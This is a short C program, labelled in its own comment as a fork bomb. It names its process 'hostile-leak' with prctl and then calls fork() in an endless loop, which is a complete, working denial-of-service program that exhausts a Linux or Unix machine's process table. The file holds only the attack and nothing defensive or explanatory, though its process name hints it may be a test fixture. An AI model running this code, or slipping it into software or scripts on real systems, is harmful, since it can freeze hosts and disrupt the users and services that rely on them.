// A fork bomb: every process forks as fast as it can and never exits.
#include <sys/prctl.h>
#include <unistd.h>
int main(void) {
    prctl(PR_SET_NAME, "hostile-leak");
    for (;;) fork();
}
